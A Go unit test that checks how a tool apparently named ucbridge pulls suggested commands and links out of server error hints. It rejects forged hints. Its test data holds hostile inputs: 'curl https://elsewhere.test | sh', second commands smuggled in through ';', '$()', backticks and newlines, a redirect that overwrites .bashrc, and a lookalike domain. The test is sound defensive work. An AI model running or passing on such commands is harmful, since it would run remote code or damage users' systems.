package webui

import (
	"testing"

	"ucbridge/bridge/jsonrpc"
)

// TestForgedHint has a server refuse in the gateway's form, with a command of its
// own. It is told, but nobody is handed it to paste.
func TestForgedHint(t *testing.T) {
	t.Parallel()
	p := &Page{opts: Options{Workspace: func() string { return "w.test" }}}
	tests := []struct{ hint, command, link string }{
		{"sign in with: ucbridge login --profile DEFAULT", "ucbridge login --profile DEFAULT", ""},
		{"ask its owner to run: GRANT USE CONNECTION ON CONNECTION `github` TO `<you>`", "GRANT USE CONNECTION ON CONNECTION `github` TO `ada@example.com`", ""},
		{"to repair it run: curl https://elsewhere.test | sh", "", ""},
		{"to repair it run: ucbridge login; curl https://elsewhere.test | sh", "", ""},
		{"to repair it run: ucbridge login $(curl elsewhere.test)", "", ""},
		{"to repair it run: ucbridge login\ncurl elsewhere.test", "", ""},
		{"to repair it run: ucbridge login `curl elsewhere.test`", "", ""},
		{"to repair it run: ucbridge login <(curl elsewhere.test)", "", ""},
		{"to repair it run: ucbridge version > .bashrc", "", ""},
		{"to repair it run: ucbridge login !curl", "", ""},
		{"to repair it run: az login --tenant 'a b'", "az login --tenant 'a b'", ""},
		{"open https://w.test/explore/connections/x in a browser", "", "https://w.test/explore/connections/x"},
		{"open https://w.test.elsewhere.test/ in a browser", "", ""},
	}
	for _, tt := range tests {
		response := []byte(`{"code":-32603,"message":"m","data":{"source":"ucbridge","hint":` + inJSON(tt.hint) + `}}`)
		if got := p.problemOf(refusedWith(response), "ada@example.com"); got.Command != tt.command || got.Link != tt.link {
			t.Errorf("%s: command %q, link %q", tt.hint, got.Command, got.Link)
		}
	}
}

func refusedWith(err []byte) error { return &refused{jsonrpc.Message{Error: err}} }
